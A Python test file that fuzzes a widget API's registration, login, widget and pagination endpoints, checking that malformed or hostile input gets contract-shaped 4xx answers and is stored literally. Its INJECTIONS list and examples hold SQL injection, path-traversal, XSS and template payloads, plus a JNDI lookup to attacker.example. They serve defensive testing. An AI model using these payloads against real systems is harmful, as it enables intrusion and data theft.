"""Property-based fuzzing of every body field, path name and query parameter (docs/API.md §1, §3).

Whatever a client sends, the answer is a 2xx for valid input or a 4xx in one of the contract's
shapes (``{"message": ...}`` with an optional ``errors`` dict of contract messages, or
``{"status": "fail", "message": ...}``), never a 5xx; injection strings that are valid values
are stored and compared literally; and the tables are intact afterwards.

The tables are emptied per test function, not per hypothesis example: names and e-mails may
repeat across examples, so a 409 is always an acceptable answer to a create.
"""

from __future__ import annotations

import json
import re
import uuid
from datetime import UTC, date, datetime, timedelta
from urllib.parse import quote, urlencode

import pytest
from hypothesis import HealthCheck, assume, event, example, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context

from tests.helpers import API, LOGIN, PASSWORD, REGISTER, WIDGETS, bearer
from tests.helpers_sql import run_sql

FORM = "application/x-www-form-urlencoded"

MISSING_BODY = "Missing required parameter in the post body"
MISSING_QUERY = "Missing required parameter in the query string"
BAD_NAME_TAIL = (" contains one or more invalid characters. Widget name must contain only "
                 "letters, numbers, hyphen and underscore characters.")
FAIL_MESSAGES = {
    "Malformed JSON: the body could not be parsed.",
    "The JSON body must be an object.",
    "The JSON body is nested too deeply.",
    "Malformed form body: it is not valid UTF-8.",
}

INJECTIONS = [
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "admin'--",
    "1; DELETE FROM widgets",
    "Robert'); DROP TABLE widgets;--",
    "' UNION SELECT password_hash FROM users --",
    "'; TRUNCATE revoked_tokens; --",
    "%(email)s",
    "%s%s%s",
    "$1",
    "\\",
    "\\'; SELECT pg_sleep(10); --",
    "' || (SELECT version()) || '",
    "\x00'; DROP TABLE users; --",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://attacker.example/x}",
    "{{7*7}}",
]

SETTINGS = settings(max_examples=500, deadline=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture,
                                           HealthCheck.too_slow])


# -- strategies ----------------------------------------------------------------------------------

ANY_CHAR = st.characters(exclude_categories=())  # surrogates, controls and NUL included
SURROGATE = st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF)
NASTY = "\x00\x01\x08\x1f\x7f\x85\xa0\u2028\u202e\ufeff\ufffd\U0001f600'\";%_-@./:?#&=+ \t\n"

weird_text = st.one_of(
    st.text(ANY_CHAR, max_size=60),
    st.text(st.sampled_from(NASTY), max_size=20),
    st.builds(lambda a, s, b: a + s + b, st.text(max_size=10), SURROGATE, st.text(max_size=10)),
    st.sampled_from(INJECTIONS),
    st.text(st.characters(max_codepoint=0x7F), min_size=200, max_size=400),
)

json_junk = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=-(10**60), max_value=10**60),
    st.floats(),  # NaN and +-Infinity too: Python's json spells them and reads them back
    st.lists(st.one_of(st.integers(), st.text(max_size=5)), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)

emails = st.one_of(
    st.emails(),
    st.builds(lambda local, inj: f"{local}{inj}@example.com",
              st.from_regex(r"[a-z]{1,8}", fullmatch=True),
              st.sampled_from(["'--", "'OR'1'='1", "%s", "$1", "';"])),
)
passwords = st.one_of(
    st.text(ANY_CHAR, min_size=8, max_size=30),
    st.sampled_from(INJECTIONS),
)
names = st.one_of(
    st.from_regex(r"[\w-]{1,110}", fullmatch=True),
    st.from_regex(r"[A-Za-z0-9_-]{1,30}", fullmatch=True),
)
urls = st.one_of(
    st.builds(lambda scheme, host, path: f"{scheme}://{host}{path}",
              st.sampled_from(["http", "https", "ftp", "javascript", "HTTP"]),
              st.sampled_from(["www.example.com", "example.org", "127.0.0.1", "localhost",
                               "[::1]", "user:pw@example.com", "example.com:8080",
                               "bücher.example", "-bad-.example", "a..b.com", ""]),
              st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), max_size=40)),
    st.builds(lambda inj: "https://www.example.com/" + inj.replace(" ", ""),
              st.sampled_from(INJECTIONS)),
)
good_urls = st.builds(
    lambda scheme, host, path: f"{scheme}://{host}/{path}",
    st.sampled_from(["http", "https", "HTTPS"]),
    st.sampled_from(["www.example.com", "example.org", "a-b.example.co.uk", "bücher.example"]),
    st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), max_size=60),
)
TODAY = datetime.now(UTC).date()
DATE_FORMATS = ["%Y-%m-%d", "%m/%d/%Y", "%b %d %Y", "%d %B %Y", "%Y%m%d"]
deadlines = st.one_of(
    st.builds(lambda d, fmt: d.strftime(fmt),
              st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)),
              st.sampled_from(DATE_FORMATS)),
    st.builds(lambda days: (TODAY + timedelta(days=days)).isoformat(),
              st.integers(min_value=1, max_value=3000)),
    st.sampled_from(["tomorrow", "now", "9999-12-31", "0000-00-00", "2030-02-30",
                     "99999999999999999999", "1" * 90, "Nov 31 2099", "T", "-1", "+infinity"]),
)
good_deadlines = st.builds(lambda d, fmt: d.strftime(fmt),
                           st.dates(min_value=TODAY, max_value=date(9999, 12, 31)),
                           st.sampled_from(DATE_FORMATS))
integer_text = st.one_of(
    st.integers().map(str),
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
    st.sampled_from(["0", "-0", "+1", "01", "05", "1e3", "1.0", " 1", "1 ", "1\n", "٣", "¹",
                     "0x10", "1" * 5000, "9" * 4301, "100", "25", "-5"]),
)


def spoiled(valid):
    """A valid value with one odd character (NUL, a control, a surrogate...) slipped in."""
    def insert(value: str, char: str, at: int) -> str:
        at %= len(value) + 1
        return value[:at] + char + value[at:]
    return st.builds(insert, valid, st.one_of(st.sampled_from(NASTY), ANY_CHAR, SURROGATE),
                     st.integers(min_value=0, max_value=300))


def field(*specific):
    """A body value: one made to be nearly valid (or nearly so, spoiled by one character),
    weird text, or a JSON value of another type."""
    return st.one_of(*specific, *map(spoiled, specific), weird_text, json_junk)


def text_field(*specific):
    """A form value: text only (form bodies cannot spell other JSON types)."""
    return st.one_of(*specific, *map(spoiled, specific), weird_text)


def optional_fields(**strategies):
    """A body in which every field may also be absent."""
    return st.fixed_dictionaries({}, optional=strategies)


def encode_body(body: dict, kind: str, ascii_json: bool = True) -> tuple[bytes, str]:
    if kind == "json":
        text = json.dumps(body, ensure_ascii=ascii_json)
        # ensure_ascii=False leaves lone surrogates as is: written as (invalid) UTF-8 bytes
        return text.encode("utf-8", "surrogatepass"), "application/json"
    return urlencode(body, errors="surrogatepass").encode("ascii"), FORM


# -- the contract's shapes -----------------------------------------------------------------------

def message_allowed(name: str, value, message: str, where: str = "post body") -> bool:
    """Whether ``message`` is a contract message for field ``name`` holding ``value`` (a value
    of ``None`` here means: unknown, do not check the quoting)."""
    if message == f"Missing required parameter in the {where}":
        return True
    if message == f"{name} must be a string":
        return value is None or not isinstance(value, str)
    shown = value if isinstance(value, str) else None
    if name == "email":
        return shown is None or message == f"{shown} is not a valid email"
    if name == "password":
        return message in ("Password must be at least 8 characters.",
                           "Password must be at most 72 bytes.")
    if name == "name":
        if message == "Widget name must be at most 100 characters.":
            return True
        return message.endswith(BAD_NAME_TAIL) and (
            shown is None or message == f"'{shown.lower()}'{BAD_NAME_TAIL}")
    if name == "info_url":
        return message.startswith(f"{shown if shown is not None else ''}") and (
            " is not a valid URL" in message)
    if name == "deadline":
        if shown is None:
            return message.startswith(("Failed to parse '", "Successfully parsed "))
        return message.startswith((f"Failed to parse '{shown}' as a valid date.",
                                   f"Successfully parsed {shown} as "))
    if name in ("page", "per_page"):
        v = re.escape(shown) if shown is not None else ".*"
        patterns = [f"{v} is not a valid integer",
                    f"Invalid {name}: {v}. {name} must be a positive integer"]
        if name == "per_page":
            patterns.append(f"The value '{v}' is not a valid choice for 'per_page'.")
        return any(re.fullmatch(p, message, re.DOTALL) for p in patterns)
    return False


def check_answer(resp, allowed: set[int], fields: dict | None = None,
                 where: str = "post body") -> None:
    """``resp`` is no 5xx, one of ``allowed``, and in the contract's shape. ``fields`` maps
    each field that may be reported to the value sent (None: unknown)."""
    if currently_in_test_context():
        event(f"status {resp.status_int}")
    assert resp.status_int < 500, (resp.status, resp.text[:500])
    assert resp.status_int in allowed, (resp.status, resp.text[:500])
    if resp.status_int == 204:
        assert resp.body == b""
        return
    assert resp.content_type == "application/json", resp.headers
    body = resp.json
    assert isinstance(body, dict)
    if resp.status_int < 300:
        return
    assert "Traceback" not in resp.text
    if "status" in body:
        assert set(body) == {"status", "message"}, body
        assert body["status"] == "fail" and isinstance(body["message"], str), body
        if resp.status_int == 400:
            assert body["message"] in FAIL_MESSAGES, body
        return
    assert isinstance(body.get("message"), str), body
    if "errors" not in body:
        assert set(body) == {"message"}, body
        return
    assert resp.status_int == 400 and set(body) == {"message", "errors"}, body
    assert body["message"] == "Input payload validation failed"
    errors = body["errors"]
    assert isinstance(errors, dict) and errors, body
    expected = fields or {}
    for name, message in errors.items():
        assert name in expected, (name, body)
        assert isinstance(message, str)
        assert message_allowed(name, expected[name], message, where), (name, message)


def post(app, url: str, raw: bytes, content_type: str, headers=None):
    return app.post(url, raw, content_type=content_type, headers=headers or {},
                    expect_errors=True)


@pytest.fixture(autouse=True)
def tables_intact(db):
    """After every test: the tables answer, whatever was thrown at them."""
    yield
    for table in ("users", "widgets", "revoked_tokens", "widget_blocks"):
        assert run_sql(db, "attacks_table_exists", relation=table)[0]["present"], table
    assert run_sql(db, "attacks_count_users")[0]["n"] >= 0
    assert run_sql(db, "attacks_count_widgets")[0]["n"] >= 0


# -- credentials ---------------------------------------------------------------------------------

@pytest.mark.slow  # 500 examples: bin/test, not bin/test --fast
@SETTINGS
@given(body=st.one_of(st.fixed_dictionaries({"email": emails, "password": passwords}),
                      optional_fields(email=field(emails), password=field(passwords))),
       ascii_json=st.booleans())
@example(body={"email": "'; DROP TABLE users; --", "password": "' OR '1'='1"}, ascii_json=True)
@example(body={"email": "a\ud800@example.com", "password": PASSWORD}, ascii_json=False)
@example(body={"email": 10**30, "password": float("nan")}, ascii_json=True)
def test_fuzz_register_and_login_json(app, body, ascii_json):
    raw, content_type = encode_body(body, "json", ascii_json)
    fields = {"email": body.get("email"), "password": body.get("password")}
    registered = post(app, REGISTER, raw, content_type)
    check_answer(registered, {201, 400, 409}, fields)
    logged_in = post(app, LOGIN, raw, content_type)
    check_answer(logged_in, {200, 400, 401}, fields)
    if registered.status_int == 201:
        # stored literally: the very same values log in
        assert logged_in.status_int == 200, logged_in.text
        assert registered.json["token_type"] == "bearer"


@pytest.mark.slow  # 500 examples: bin/test, not bin/test --fast
@SETTINGS
@given(body=optional_fields(email=text_field(emails), password=text_field(passwords)))
@example(body={"email": "o'reilly'--@example.com", "password": "'; DROP TABLE users; --"})
@example(body={"email": "x\udcff@example.com", "password": "\ud800" * 8})
def test_fuzz_register_and_login_form(app, body):
    raw, content_type = encode_body(body, "form")
    valid_utf8 = not any(re.search("[\ud800-\udfff]", v) for v in body.values())
    fields = {k: (body.get(k) if valid_utf8 else None) for k in ("email", "password")}
    registered = post(app, REGISTER, raw, content_type)
    check_answer(registered, {201, 400, 409}, fields)
    if not valid_utf8:
        assert registered.status_int == 400
        assert registered.json == {"status": "fail",
                                   "message": "Malformed form body: it is not valid UTF-8."}
    logged_in = post(app, LOGIN, raw, content_type)
    check_answer(logged_in, {200, 400, 401}, fields)
    if registered.status_int == 201:
        assert logged_in.status_int == 200, logged_in.text


@pytest.mark.slow  # 500 examples: bin/test, not bin/test --fast
@SETTINGS
@given(password=st.text(ANY_CHAR.filter(lambda c: not 0xD800 <= ord(c) <= 0xDFFF),
                        min_size=8, max_size=40).filter(
                            lambda p: len(p.encode()) <= 72)
       | st.sampled_from([i for i in INJECTIONS if len(i) >= 8]),
)
@example(password="'; DROP TABLE users; --")
@example(password="\x00" * 8)
def test_fuzz_any_valid_password_round_trips_literally(app, password):
    """Any 8+ code points in at most 72 bytes (NUL, controls, injections, emoji) registers,
    logs in with exactly itself, and with nothing else."""
    assume(len(password) >= 8)
    email = f"pw{uuid.uuid4().hex}@example.com"  # a fresh user for every example
    body = {"email": email, "password": password}
    registered = app.post_json(REGISTER, body, expect_errors=True)
    check_answer(registered, {201}, {"email": email, "password": password})
    app.post_json(LOGIN, body, status=200)
    for other in (password + "x", password[:-1], password.upper() if password.upper()
                  != password else password + "'", "' OR '1'='1"):
        if other != password and len(other) >= 8 and len(other.encode()) <= 72:
            resp = app.post_json(LOGIN, {"email": email, "password": other}, status=401)
            assert resp.json == {"status": "fail", "message": "email or password does not match"}


@pytest.mark.slow  # 500 examples: bin/test, not bin/test --fast
@SETTINGS
@given(raw=st.one_of(st.binary(max_size=300),
                     st.builds(lambda b: b"email=" + b + b"&password=" + b,
                               st.binary(min_size=1, max_size=40))),
       url=st.sampled_from([REGISTER, LOGIN, WIDGETS]))
@example(raw=b"email=%FF%FE@example.com&password=Secret-pass-1", url=REGISTER)
@example(raw=b"\xff\xfe\x00\x00", url=LOGIN)
@example(raw=b"name=\xed\xa0\x80&info_url=https://www.example.com&deadline=2099-1-1", url=WIDGETS)
def test_fuzz_raw_form_bytes(app, admin_token, raw, url):
    """Arbitrary bytes (invalid UTF-8 included) in a form body: a 4xx, or a 2xx if they
    happen to spell a valid form."""
    resp = post(app, url, raw, FORM, headers=bearer(admin_token))
    fields = ({"name": None, "info_url": None, "deadline": None} if url == WIDGETS
              else {"email": None, "password": None})
    check_answer(resp, {200, 201, 400, 401, 409}, fields)
    try:
        raw.decode("utf-8")
    except UnicodeDecodeError:
        assert resp.status_int == 400
        assert resp.json == {"status": "fail",
                             "message": "Malformed form body: it is not valid UTF-8."}


# -- widgets -------------------------------------------------------------------------------------

widget_fields = {"name": None, "info_url": None, "deadline": None}


def assert_stored(app, token: str, name: str, info_url: str) -> None:
    """A created widget is found by its lower-cased name, its URL exactly as sent."""
    resp = app.get(f"{WIDGETS}/{quote(name.lower(), safe='')}", headers=bearer(token),
                   status=200)
    assert resp.json["name"] == name.lower()
    assert resp.json["info_url"] == info_url


# half nearly valid bodies (to reach the database), half anything at all
widget_bodies = st.one_of(
    st.fixed_dictionaries({"name": names, "info_url": good_urls, "deadline": good_deadlines}),
    optional_fields(name=field(names), info_url=field(urls, good_urls),
                    deadline=field(deadlines, good_deadlines)),
)
update_bodies = st.one_of(
    st.fixed_dictionaries({"info_url": good_urls, "deadline": good_deadlines},
                          optional={"name": field(names)}),
    optional_fields(name=field(names), info_url=field(urls, good_urls),
                    deadline=field(deadlines, good_deadlines)),
)


@pytest.mark.slow  # 500 examples: bin/test, not bin/test --fast
@SETTINGS
@given(body=widget_bodies, kind=st.sampled_from(["json", "json-utf8", "form"]))
@example(body={"name": "robert-drop", "info_url": "https://www.example.com/';DROP-TABLE-widgets;--",
               "deadline": "2099-01-01"}, kind="json")
@example(body={"name": "'; DROP TABLE widgets; --", "info_url": "' OR '1'='1",
               "deadline": "' OR '1'='1"}, kind="form")
@example(body={"name": ["a"], "info_url": {"a": 1}, "deadline": 1e400}, kind="json")
def test_fuzz_create_widget(app, admin_token, body, kind):
    if kind == "form":
        if not all(isinstance(v, str) for v in body.values()):
            body = {k: v for k, v in body.items() if isinstance(v, str)}
        raw, content_type = encode_body(body, "form")
    else:
        raw, content_type = encode_body(body, "json", ascii_json=kind == "json")
    surrogates = any(isinstance(v, str) and re.search("[\ud800-\udfff]", v)
                     for v in body.values())
    fields = {k: (None if surrogates else body.get(k)) for k in widget_fields}
    resp = post(app, WIDGETS, raw, content_type, headers=bearer(admin_token))
    check_answer(resp, {201, 400, 409}, fields)
    if resp.status_int == 201:
        assert resp.json == {"status": "success",
                             "message": f"New widget added: {body['name'].lower()}."}
        assert_stored(app, admin_token, body["name"], body["info_url"])
    elif resp.status_int == 409:
        assert resp.json["message"] == (
            f"Widget name: {body['name'].lower()} already exists, must be unique.")


path_names = st.one_of(names, weird_text, st.sampled_from(["..", ".", "%2F", "a/b", "", " "]))


@pytest.mark.slow  # 500 examples: bin/test, not bin/test --fast
@SETTINGS
@given(name=path_names, body=update_bodies)
@example(name="'; DROP TABLE widgets; --", body={"info_url": "https://www.example.com",
                                                 "deadline": "2099-01-01"})
@example(name="ok-name", body={"info_url": "https://www.example.com/?q='OR'1'='1",
                               "deadline": "2099-01-01"})
def test_fuzz_put_widget(app, admin_token, name, body):
    path = f"{WIDGETS}/{quote(name, safe='', errors='surrogatepass')}"
    raw, content_type = encode_body(body, "json")
    resp = app.put(path, raw, content_type=content_type, headers=bearer(admin_token),
                   expect_errors=True)
    # the path's name is reported as "name" (its decoded form is the framework's business)
    fields = {"name": None, "info_url": body.get("info_url"), "deadline": body.get("deadline")}
    if any(isinstance(v, str) and re.search("[\ud800-\udfff]", v) for v in body.values()):
        fields = {k: None for k in fields}
    check_answer(resp, {200, 201, 400, 404, 405}, fields)
    if resp.status_int in (200, 201):
        assert_stored(app, admin_token, name, body["info_url"])


@pytest.mark.slow  # 500 examples: bin/test, not bin/test --fast
@SETTINGS
@given(name=path_names)
@example(name="' OR '1'='1")
@example(name="x%00")
def test_fuzz_get_and_delete_widget_by_name(app, admin_token, name):
    path = f"{WIDGETS}/{quote(name, safe='', errors='surrogatepass')}"
    check_answer(app.get(path, headers=bearer(admin_token), expect_errors=True),
                 {200, 404})
    check_answer(app.delete(path, headers=bearer(admin_token), expect_errors=True),
                 {204, 404, 405})


# -- pagination ----------------------------------------------------------------------------------

def canonical_positive(value) -> bool:
    return isinstance(value, str) and re.fullmatch(r"\+?[0-9]+", value) is not None and (
        len(value) <= 100 and int(value) >= 1)  # at most 100 characters, sign included


@pytest.mark.slow  # 500 examples: bin/test, not bin/test --fast
@SETTINGS
@given(query=optional_fields(page=st.one_of(integer_text, st.integers(1, 30).map(str),
                                            weird_text),
                             per_page=st.one_of(integer_text, st.sampled_from(
                                 ["5", "10", "25", "50", "100"]), weird_text)),
       extra=st.sampled_from(["", "&page=2", "&per_page=zz", "&page", "&x=%FF"]))
@example(query={"page": "' OR '1'='1", "per_page": "10; DROP TABLE widgets"}, extra="")
@example(query={"page": "1" * 5000}, extra="")
@example(query={"page": "1" * 100, "per_page": "100"}, extra="")
@example(query={"page": "+" + "1" * 100, "per_page": "100"}, extra="")
@example(query={"page": "\ud800"}, extra="")
def test_fuzz_pagination_query(app, user_token, query, extra):
    qs = urlencode(query, errors="surrogatepass") + extra
    resp = app.get(f"{WIDGETS}?{qs}", headers=bearer(user_token), expect_errors=True)
    surrogates = any(re.search("[\ud800-\udfff]", v) for v in query.values())
    fields = {k: (None if surrogates or extra else query.get(k)) for k in ("page", "per_page")}
    check_answer(resp, {200, 400}, fields, where="query string")
    page, per_page = query.get("page", "1"), query.get("per_page", "10")
    if not extra and canonical_positive(page) and per_page in ("5", "10", "25", "50", "100"):
        assert resp.status_int == 200, resp.text[:300]
        assert resp.json["page"] == int(page)
        assert resp.json["items_per_page"] == int(per_page)


# -- nesting and huge numbers (fixed inputs: hypothesis adds nothing here) --------------------

DEEP = 10_000
NESTED_BODIES = {
    "open brackets": b"[" * DEEP,
    "closed brackets": b"[" * DEEP + b"]" * DEEP,
    "open objects": b'{"a":' * DEEP,
    "closed objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "nested in a field": (b'{"email": ' + b"[" * DEEP + b"]" * DEEP
                          + b', "password": "Secret-pass-1"}'),
    "nested just past the limit": b'{"email": ' + b"[" * 40 + b"]" * 40 + b"}",
    "a 5000-digit number": b'{"email": ' + b"9" * 5000 + b', "password": "Secret-pass-1"}',
    "1e400 everywhere": b'{"email": 1e400, "password": -1e400, "name": 1e400}',
}
URLS = [REGISTER, LOGIN, WIDGETS, f"{WIDGETS}/some-name"]


@pytest.mark.parametrize("url", URLS)
@pytest.mark.parametrize("name", list(NESTED_BODIES))
def test_deep_nesting_and_huge_numbers_are_4xx(app, admin_token, url, name):
    method = app.put if url.endswith("some-name") else app.post
    resp = method(url, NESTED_BODIES[name], content_type="application/json",
                  headers=bearer(admin_token), expect_errors=True)
    fields = {"email": None, "password": None, "name": None, "info_url": None,
              "deadline": None}
    check_answer(resp, {400}, fields)
    if name != "1e400 everywhere":
        assert resp.json["status"] == "fail"


# -- valid injection strings are data ------------------------------------------------------------

def test_valid_injection_strings_are_stored_and_compared_literally(app, db, admin_token):
    email = "o'reilly'OR'1'='1@example.com"
    password = "'; DROP TABLE users; --"
    app.post_json(REGISTER, {"email": email, "password": password}, status=201)
    token = app.post_json(LOGIN, {"email": email, "password": password},
                          status=200).json["access_token"]
    assert app.get(f"{API}/auth/user", headers=bearer(token)).json["email"] == email
    # the classic bypasses are just wrong passwords and unknown addresses
    for attempt in ({"email": email, "password": "' OR '1'='1"},
                    {"email": "' OR '1'='1", "password": password},
                    {"email": "x'OR'1'='1@example.com", "password": "' OR ''='"}):
        app.post_json(LOGIN, attempt, status=(400, 401))

    url = "https://www.example.com/';DROP-TABLE-widgets;--?q='OR'1'='1&r=%27;--"
    app.post_json(WIDGETS, {"name": "literal", "info_url": url, "deadline": "2099-01-01"},
                  headers=bearer(admin_token), status=201)
    assert run_sql(db, "attacks_widget_info_url", widget="literal") == [{"info_url": url}]
    assert app.get(f"{WIDGETS}/literal", headers=bearer(token)).json["info_url"] == url
    assert run_sql(db, "attacks_count_users")[0]["n"] == 2
    assert run_sql(db, "attacks_count_widgets")[0]["n"] == 1
